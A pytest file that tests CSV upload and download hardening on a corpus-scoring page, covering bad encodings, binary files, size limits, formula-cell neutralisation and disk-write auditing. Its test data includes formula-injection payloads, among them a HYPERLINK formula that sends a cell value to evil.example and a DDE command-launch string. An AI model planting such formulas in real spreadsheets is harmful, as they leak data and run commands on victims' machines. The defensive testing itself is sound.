"""CSV upload and download hardening (issue #16.2) on the corpus-scoring page: hostile files
get clear messages, formula-injection cells are neutralised in the download, and nothing
is written to disk outside a temporary folder while a file is uploaded, scored and offered
for download."""
import csv
import io
import os
import sys
import tempfile

import pandas as pd
import pytest

from lessons.evaluation import corpus_scoring
from tests.app.helpers import assert_no_exception, open_page

PAGE = "pages/w2_corpus_scoring.py"
HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"click me")', "+1+1", "-2+3", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "＝1+1", "=cmd|' /C calc'!A0",
]
SPLIT = "fine\r=1+1"   # a lone CR inside a cell must not start a new (formula) row

# ---------------------------------------------------------------- disk writes, audited
_WRITES: list | None = None


def _audit(event, args):
    if _WRITES is None:
        return
    if event == "open" and len(args) >= 3 and isinstance(args[0], (str, bytes, os.PathLike)):
        mode, flags = args[1] or "", args[2] or 0
        if any(c in str(mode) for c in "wax+") or flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT):
            _WRITES.append(os.fsdecode(args[0]))
    elif event in ("os.mkdir", "os.rename", "os.replace", "os.remove", "os.rmdir", "shutil.move",
                   "shutil.copyfile", "os.truncate", "os.symlink", "os.link"):
        _WRITES.append(os.fsdecode(args[0]) if isinstance(args[0], (str, bytes, os.PathLike)) else str(args[0]))


sys.addaudithook(_audit)   # cannot be removed: it records only while _WRITES is a list


@pytest.fixture(scope="module")
def page():
    at = open_page(PAGE, timeout=90)
    at.radio(key="corpus-scoring.source").set_value("Upload a CSV").run()
    return at


def _upload(at, data: bytes, name="pairs.csv"):
    at.file_uploader(key="corpus-scoring.upload").set_value((name, data, "text/csv")).run()
    assert_no_exception(at)
    return [e.value for e in at.error]


@pytest.mark.parametrize("name,data,says", [
    ("latin1.csv", "candidate,reference\ncafé crème,café\n".encode("latin-1"), "not UTF-8 text (Latin-1"),
    ("utf16.csv", "candidate,reference\nhi,hi\n".encode("utf-16"), "UTF-16 text, not UTF-8"),
    ("photo.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4, "binary file renamed to .csv"),
    ("book.csv", b"PK\x03\x04\x14\x00\x06\x00" + bytes(200), "Excel workbook"),
    ("big.csv", b"candidate,reference\n" + b"a,b\n" * (corpus_scoring.MAX_CSV_BYTES // 4 + 10), "MB; the limit is"),
    ("empty.csv", b"", "The file is empty"),
])
@pytest.mark.slow
def test_bad_files_get_a_clear_message_and_nothing_is_scored(page, name, data, says):
    errors = _upload(page, data, name)
    assert len(errors) == 1 and says in errors[0], errors
    assert not page.metric


def test_formula_cells_neutralised_in_download_and_no_disk_writes(page, monkeypatch, tmp_path):
    global _WRITES
    made = []
    real = corpus_scoring.scores_csv
    monkeypatch.setattr(corpus_scoring, "scores_csv", lambda df: made.append(real(df)) or made[-1])
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(["candidate", "reference"])
    for h in HOSTILE:
        w.writerow([h, h])
    w.writerow([SPLIT, SPLIT])
    w.writerow(["the cat sat", "the cat sat on the mat"])
    _WRITES = []
    try:
        errors = _upload(page, buf.getvalue().encode("utf-8"))
        (tmp_path / "probe.txt").write_text("the audit hook sees writes")
        writes = list(_WRITES)
    finally:
        _WRITES = None
    assert errors == []
    tmp = os.path.realpath(tempfile.gettempdir())
    outside = [p for p in writes if not os.path.realpath(p).startswith(tmp + os.sep)]
    assert outside == [], outside
    assert str(tmp_path / "probe.txt") in writes
    assert any(b.proto.label == "Download the scores as CSV" for b in page.get("download_button"))
    assert made, "the download is built by lessons.evaluation.corpus_scoring.scores_csv"
    down = pd.read_csv(io.BytesIO(made[-1]), keep_default_na=False)
    assert len(down) == len(HOSTILE) + 2
    for col in ("candidate", "reference"):
        cells = list(down[col])
        assert cells[:len(HOSTILE)] == ["'" + h for h in HOSTILE]
        assert cells[len(HOSTILE):] == [SPLIT, "the cat sat" if col == "candidate" else "the cat sat on the mat"]
    assert not any(str(v).startswith(corpus_scoring.FORMULA_START) for col in ("candidate", "reference")
                   for v in down[col])
    # the table on the page shows the learner's text as it was (only the download is guarded)
    shown = next(d.value for d in page.dataframe if "candidate" in d.value.columns)
    assert list(shown["candidate"])[:2] == HOSTILE[:2]


def test_neutralize_cell_leaves_ordinary_values():
    assert corpus_scoring.neutralize_cell("the cat") == "the cat"
    assert corpus_scoring.neutralize_cell(0.5) == 0.5
    assert corpus_scoring.neutralize_cell("") == ""
    assert corpus_scoring.neutralize_cell("=1") == "'=1"
    df = pd.DataFrame({"bleu": [-0.0, 12.5], "candidate": ["-x", "y"]})
    back = pd.read_csv(io.BytesIO(corpus_scoring.scores_csv(df)))
    assert list(back["bleu"]) == [0.0, 12.5] and list(back["candidate"]) == ["'-x", "y"]
